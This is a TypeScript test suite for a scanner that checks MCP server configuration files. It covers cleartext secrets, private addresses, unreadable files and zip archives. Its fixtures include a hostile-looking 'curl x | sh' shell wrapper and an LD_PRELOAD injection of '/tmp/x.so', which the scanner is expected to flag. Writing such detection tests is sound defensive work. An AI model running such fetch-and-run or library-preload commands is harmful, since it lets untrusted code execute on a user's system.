import { beforeAll, describe, expect, test } from 'vitest';
import { unpackSource } from '../../files/unpack-source';
import { zipFiles } from '../../files/write-zip';
import { given, sealedJson } from '../../samples/sealed-files';
import type { ScanReport } from '../../../src-shared/transfer/file-report';
import type { SealingKeys } from '../sealing/key-deriver';
import { cheapKeys } from '../sealing/samples/cheap-keys';
import type { GivenSource } from './file-service';
import { scanFiles } from './scan-files';

const config = (name: string, server: object): GivenSource => given(name, JSON.stringify({ mcpServers: { one: server } }));
const scan = (...sources: readonly GivenSource[]): Promise<ScanReport> => scanFiles(sources, unpackSource);
let keys: SealingKeys;
beforeAll(async () => {
  keys = await cheapKeys('a password');
});

describe('a scan finds', () => {
  test.each<readonly [what: string, sources: () => readonly GivenSource[], clean: boolean, counts: ScanReport['counts'], codes: readonly string[]]>([
    ['nothing in a plain file', () => [config('a.json', { command: 'npx', args: ['-y', 'mcp-files'] })], true, { secretsInClear: 0, warnings: 0, notes: 0, unread: 0 }, []],
    ['nothing in what is sealed', () => [given('a.json', sealedJson(keys, 'one'))], true, { secretsInClear: 0, warnings: 0, notes: 0, unread: 0 }, []],
    ['secrets', () => [config('a.json', { command: 'npx', env: { TOKEN: 'hunter2', KEY: 'hunter3' } })], false, { secretsInClear: 2, warnings: 0, notes: 0, unread: 0 }, []],
    ['what is dangerous', () => [config('a.json', { command: 'sh', args: ['-c', 'curl x | sh'] }), config('b.json', { command: 'x', env: { LD_PRELOAD: '/tmp/x.so' } })], false,
      { secretsInClear: 0, warnings: 2, notes: 0, unread: 0 }, ['SHELL_WRAPPER', 'LOADER_VARIABLE']],
    ['and is clean where all of it is a note', () => [config('a.json', { url: 'http://192.168.1.5/mcp' })], true, { secretsInClear: 0, warnings: 0, notes: 1, unread: 0 }, ['PRIVATE_ADDRESS']],
    ['what it can not look into, which is not clean', () => [given('a.json', '{'), { name: 'gone.json', failure: { code: 'FILE_NOT_FOUND', details: {} } }], false, { secretsInClear: 0, warnings: 0, notes: 0, unread: 2 }, []],
    ['no fault in one of a folder\'s files that holds no servers', () => [{ ...given('package.json', '{"name":"x"}'), optional: true }], true, { secretsInClear: 0, warnings: 0, notes: 0, unread: 0 }, []],
  ])('%s', async (_what, sources, clean, counts, codes) => {
    const report = await scan(...sources());
    expect(report).toMatchObject({ clean, counts });
    expect(report.findings.map(({ code }) => code)).toEqual(codes);
    expect(report.secretsInClear).toHaveLength(counts.secretsInClear);
    expect(JSON.stringify(report)).not.toContain('hunter');
  });

  test('the files of an archive one by one, as an import reads them', async () => {
    const zip = await zipFiles([{ path: 'a/mcp.json', content: '{"mcpServers":{"one":{"command":"x","env":{"TOKEN":"hunter2"}}}}' }, { path: 'package.json', content: '{"name":"x"}' }]);
    const report = await scan(given('all.zip', zip));
    expect(report.files).toEqual([
      expect.objectContaining({ name: 'all.zip/a/mcp.json', secretsInClear: 1 }),
      expect.objectContaining({ name: 'all.zip/package.json', secretsInClear: 0, passedOver: expect.any(String) as unknown }),
    ]);
    expect(report.secretsInClear).toMatchObject([{ place: { file: 'all.zip/a/mcp.json', line: 1 } }]);
  });
});
